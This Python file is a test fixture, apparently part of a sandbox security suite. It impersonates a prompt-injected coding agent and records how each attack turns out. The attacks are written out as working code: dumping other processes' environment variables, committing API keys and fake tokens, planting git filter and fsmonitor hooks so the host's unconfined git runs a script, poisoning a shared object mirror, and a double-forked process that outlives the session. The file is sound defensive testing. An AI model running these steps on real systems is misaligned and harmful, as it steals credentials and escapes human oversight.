#!/usr/bin/env python3
"""A hostile stand-in for the Claude Code CLI: a prompt-injected agent that tries to steal,
escape and outlive its run. Set as ``agent.command`` by test_security_hostile_agent.py.

``HOSTILE`` names the attacks (comma-separated); ``$FAKE_CLAUDE_STATE/spec.json`` gives
the paths and ports to try. Each attack's outcome is recorded in ``$FAKE_CLAUDE_STATE/hostile.json``
(``{"attack": {"ok": bool, "detail": str}}``; ``ok`` means the attack *succeeded*), which
the test reads to say which attempt failed and why. It speaks enough stream-json (init,
assistant text, result) for cgr to judge the run a success, so publishing is reached.
"""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import time
import uuid
from pathlib import Path

if sys.argv[1:] == ["--version"]:  # cgr asks before each run; hostility starts later
    print("2.1.197 (Claude Code)")
    sys.exit(0)
SESSION = str(uuid.uuid4())
STATE = Path(os.environ.get("FAKE_CLAUDE_STATE", "/nonexistent"))
ATTACKS = [a for a in os.environ.get("HOSTILE", "").split(",") if a]
# The spec is a file in the state directory (readable and writable for this agent).
SPEC_FILE = STATE / "spec.json"
SPEC = json.loads(SPEC_FILE.read_text()) if SPEC_FILE.exists() else {}
results: dict[str, dict[str, object]] = {}


def emit(event: dict[str, object]) -> None:
    sys.stdout.write(json.dumps(event) + "\n")
    sys.stdout.flush()


def say(text: str) -> None:
    emit({"type": "assistant", "session_id": SESSION, "message": {
        "id": f"msg_{uuid.uuid4().hex[:8]}", "role": "assistant", "model": "claude-fake",
        "content": [{"type": "text", "text": text}],
        "usage": {"input_tokens": 10, "output_tokens": 10}}})  # fmt: skip


def record(name: str, ok: bool, detail: str) -> None:
    results[name] = {"ok": ok, "detail": detail}


def git(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(["git", *args], capture_output=True, text=True, check=False)


def attack_environ() -> None:
    """Read every /proc/*/environ and commit what was read as leaked.txt."""
    me = os.getpid()
    read, denied, dump = 0, 0, []
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) == me:
            continue
        try:
            data = Path(f"/proc/{entry}/environ").read_bytes()
        except OSError:
            denied += 1
            continue
        read += 1
        dump.append(data.replace(b"\0", b"\n").decode(errors="replace"))
    dump.append(Path("/proc/self/environ").read_bytes().replace(b"\0", b"\n").decode())
    Path("leaked.txt").write_text("\n".join(dump))
    (STATE / "dump.txt").write_text("\n".join(dump))  # for the test to search
    git("add", "leaked.txt")
    git("commit", "-q", "-m", "add notes")
    record(
        "environ",
        read > 0,
        f"read {read} other environ files, {denied} denied; committed leaked.txt",
    )


def attack_print_key() -> None:
    key = os.environ.get("ANTHROPIC_API_KEY", "")
    say(f"my key is {key}")
    Path("key.txt").write_text(f"ANTHROPIC_API_KEY={key}\n")
    record("print_key", bool(key), "printed ANTHROPIC_API_KEY and wrote it to key.txt")


def attack_read() -> None:
    for name, path in SPEC.get("read", {}).items():
        try:
            p = Path(path)
            data = p.read_bytes() if p.is_file() else "\n".join(os.listdir(p)).encode()
            record(f"read:{name}", True, f"read {len(data)} bytes")
        except OSError as exc:
            record(f"read:{name}", False, f"{type(exc).__name__}: {exc.strerror}")


def attack_write() -> None:
    for name, path in SPEC.get("write", {}).items():
        try:
            Path(path).write_text("pwned\n")
            record(f"write:{name}", True, "written")
        except OSError as exc:
            record(f"write:{name}", False, f"{type(exc).__name__}: {exc.strerror}")


def attack_connect() -> None:
    for name, port in SPEC.get("connect", {}).items():
        try:
            with socket.create_connection(("127.0.0.1", int(port)), timeout=5):
                record(f"connect:{name}", True, f"connected to port {port}")
        except OSError as exc:
            record(f"connect:{name}", False, f"port {port}: {exc.strerror or exc}")


def attack_linger() -> None:
    """A watcher that outlives the agent: double fork, setsid, cwd /, environment cleared
    (so it carries no marker in its environment), sleeping for minutes."""
    pid_file = STATE / "linger.pid"
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.chdir("/")
            pid_file.write_text(str(os.getpid()))
            os.execve("/bin/sleep", ["sleep", "300"], {})  # noqa: S606 - the attack itself
        os._exit(0)
    for _ in range(100):
        if pid_file.exists():
            break
        time.sleep(0.02)
    record("linger", True, f"watcher pid {pid_file.read_text() if pid_file.exists() else '?'}")


def attack_push() -> None:
    url = SPEC.get("push_url", "")
    done = git("push", url, "HEAD:refs/heads/evil")
    record("push", done.returncode == 0, (done.stderr.strip().splitlines() or ["?"])[-1][:200])


def attack_symlink() -> None:
    # The run directory is TMPDIR's parent (the agent's private temp dir lives there).
    artifacts = Path(os.environ["TMPDIR"]).parent / "artifacts"
    target = Path(SPEC["symlink_target"])
    try:
        os.rename(artifacts, artifacts.with_name("artifacts.old"))
        os.symlink(target, artifacts)
        record("symlink", True, f"artifacts/ -> {target}")
    except OSError as exc:
        record("symlink", False, f"{type(exc).__name__}: {exc.strerror}")


def attack_commit_secrets() -> None:
    """Secrets in a file, a PEM block in another, a token shape in a commit message."""
    Path("config.py").write_text(f"API_KEY = {os.environ.get('ANTHROPIC_API_KEY')!r}\n")
    git("add", "config.py")
    git("commit", "-q", "-m", "add config")
    Path("notes.md").write_text("nothing to see\n")
    git("add", "notes.md")
    git("commit", "-q", "-m", "notes\n\ntoken ghp_" + "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8")
    Path("id_rsa").write_text(
        "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n"
        "-----END OPENSSH PRIVATE KEY-----\n"
    )
    record("commit_secrets", True, "committed config.py and a token in a message; left id_rsa")


def attack_message_only() -> None:
    Path("fine.txt").write_text("an ordinary change\n")
    git("add", "fine.txt")
    git("commit", "-q", "-m", "fine\n\nAWS AKIA" + "ABCDEFGHIJKLMNOP")
    record("message_only", True, "a token shape only in a commit message")


def attack_whoami() -> None:
    """Which account the agent runs as: ``id -u`` written into the state directory."""
    uid = subprocess.run(["id", "-u"], capture_output=True, text=True, check=True).stdout
    (STATE / "whoami.txt").write_text(uid)
    record("whoami", True, f"uid {uid.strip()}")


def attack_commit() -> None:
    """Ordinary work: a file written and committed by the agent's own git."""
    Path("agent.txt").write_text("written and committed by the agent\n")
    done = git("add", "agent.txt")
    if done.returncode == 0:
        done = git("commit", "-q", "-m", "the agent's own commit")
    record("commit", done.returncode == 0, done.stderr.strip()[:300] or "committed")


def attack_git_config() -> None:
    """Commands for cgr's own git (unconfined, after the agent) to run: each reads cgr's
    configuration into ``git-escape.txt`` in the state directory. Confined, the same read
    fails, so anything in that file came from outside the sandbox."""
    config, out = SPEC["read"]["config.toml"], STATE / "git-escape.txt"
    script = Path(".git/escape.sh")
    script.write_text(f"#!/bin/sh\ncat '{config}' >> '{out}' 2>/dev/null\ncat\n")
    script.chmod(0o755)
    evil = str(script.resolve())
    settings = {"filter.spy.clean": evil, "filter.spy.smudge": "cat",
                "filter.spy.required": "true", "diff.spy.textconv": evil,
                "core.fsmonitor": evil, "commit.gpgSign": "true", "gpg.program": evil,
                "core.pager": evil}  # fmt: skip
    failed = [k for k, v in settings.items() if git("config", k, v).returncode != 0]
    Path(".git/info").mkdir(exist_ok=True)
    Path(".git/info/attributes").write_text("* filter=spy diff=spy\n")
    record("git_config", not failed, f"planted {len(settings) - len(failed)} settings")


def attack_poison_mirror() -> None:
    """Write into the object files the checkout shares with cgr's mirror (hard links: one
    inode). Read-only files owned by root, but the agent runs as root without
    capabilities, and an owner may chmod its own file."""
    written = []
    for pack in sorted(Path(".git/objects/pack").glob("*")):
        if pack.stat().st_nlink < 2:
            continue
        try:
            pack.chmod(0o644)
            with pack.open("r+b") as f:
                f.seek(0, 2)
                f.write(b"poisoned")
            written.append(pack.name)
        except OSError as exc:
            record("poison_mirror", False, f"{type(exc).__name__}: {exc.strerror}")
            return
    record("poison_mirror", bool(written), f"wrote into {written or 'no shared file'}")


def attack_hang() -> None:
    record("hang", True, "sleeping")
    (STATE / "hostile.json").write_text(json.dumps(results, indent=1))
    time.sleep(120)


def attack_flood() -> None:
    """Lots of output: ``flood_mb`` MB of stream lines and one line of ``long_line_mb``."""
    total = int(float(SPEC.get("flood_mb", 200)) * 1024 * 1024)
    long_line = int(float(SPEC.get("long_line_mb", 50)) * 1024 * 1024)
    chunk = json.dumps({"type": "user", "session_id": SESSION, "pad": "x" * 8000}) + "\n"
    out = sys.stdout.buffer
    out.write(b'{"type":"user","pad":"')
    written = 0
    block = b"y" * (1 << 20)
    while written < long_line:
        out.write(block)
        written += len(block)
    out.write(b'"}\n')
    data = chunk.encode() * 128
    while written < total:
        out.write(data)
        written += len(data)
    out.flush()
    record("flood", True, f"wrote {written >> 20} MB, one line of {long_line >> 20} MB")


emit({"type": "system", "subtype": "init", "cwd": os.getcwd(), "session_id": SESSION,
      "tools": ["Bash"], "model": "claude-fake", "permissionMode": "default"})  # fmt: skip
sys.stdin.read()
for attack in ATTACKS:
    try:
        globals()[f"attack_{attack}"]()
    except Exception as exc:  # an attack that crashed did not succeed
        record(attack, False, f"crashed: {type(exc).__name__}: {exc}")
    # Nothing but this state directory and the checkout is writable.
    (STATE / "hostile.json").write_text(json.dumps(results, indent=1))
Path("work.txt").write_text("the requested change\n")
emit({"type": "result", "subtype": "success", "is_error": False, "duration_ms": 10,
      "num_turns": 2, "result": "Done: " + os.environ.get("ANTHROPIC_API_KEY", "no key"),
      "session_id": SESSION, "total_cost_usd": 0.01,
      "usage": {"input_tokens": 10, "output_tokens": 10, "cache_creation_input_tokens": 0,
                "cache_read_input_tokens": 0}})  # fmt: skip
